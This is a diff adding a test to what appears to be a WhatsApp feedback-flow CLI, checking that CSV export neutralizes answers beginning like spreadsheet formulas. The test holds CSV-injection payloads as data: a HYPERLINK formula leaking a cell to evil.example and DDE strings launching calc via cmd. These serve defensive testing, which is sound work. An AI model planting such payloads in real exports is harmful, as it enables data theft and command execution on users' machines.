@@ -1,6 +1,7 @@
 import { createFeedbackFlow } from '../../src/flows/feedback';
 import { createSqliteStore } from '../../src/store/sqlite-store';
 import { CliHarness } from '../helpers/fake-whatsapp-api/cli-harness';
+import { FORMULA_START, readCsv } from '../helpers/read-csv';
 import { createTestApp, issueToken } from '../helpers/test-app';
 import { cloudMessages, deliver, flowsChange, nfmReply } from '../helpers/webhook-deliveries';
 
@@ -67,6 +68,30 @@ describe('flows completions and flows events', () => {
     expect(lines[1]).toMatch(
       /,flow_token,,,4915112345678,5,3,4,0_yes,"Fast, ""friendly"", thanks"$/,
     );
+  });
+
+  it('when answers start like spreadsheet formulas, then each CSV cell opens as text', async () => {
+    const { app, store } = serverOn(harness);
+    const hostile = {
+      equals: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+      plus: "+1+cmd|' /C calc'!A0",
+      minus: '-2+3',
+      at: "@SUM(1+1)*cmd|' /C calc'!A0",
+      tab: '\t=1+1',
+      return: '\r=1+1',
+    };
+    const reply = nfmReply({ response: { flow_token: feedbackToken(), ...hostile } });
+    expect((await deliver(app, cloudMessages([reply]))).status).toBe(200);
+    await store.close();
+
+    const run = await harness.run(['completions', '--format', 'csv']);
+    expect(run.code).toBe(0);
+    const [header = [], row = []] = readCsv(run.out.trimEnd());
+    const cells = Object.fromEntries(header.map((name, i) => [name, row[i] ?? '']));
+    for (const [name, value] of Object.entries(hostile)) {
+      expect({ name, cell: cells[name] }).toEqual({ name, cell: `'${value}` });
+    }
+    expect(row.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
   });
 
   it('when asked for JSON, unmatched ones or a later date, then it filters', async () => {
